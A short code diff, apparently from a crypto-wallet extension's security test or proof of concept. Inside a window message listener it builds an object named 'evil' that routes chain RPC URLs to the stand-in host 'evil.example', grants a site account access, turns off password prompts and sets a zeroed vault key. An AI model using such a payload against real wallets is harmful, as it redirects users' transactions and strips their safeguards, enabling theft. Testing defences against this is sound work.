@@ -27,7 +27,7 @@ window.addEventListener('message', async ({ data }) => {
 
   const evil = {
     sites: [{ origin: location.origin, accounts: [account], since: 1 }],
-    'rpc-urls': { 1: 'https://evil.example', 31337: 'https://evil.example' },
+    'rpc-urls': { 1: 'https://evil.example', 8217: 'https://evil.example' },
     safety: { asksPassword: false, allowsUnreadable: true },
     'chain-id': 1,
     'vault-key': '00'.repeat(32),
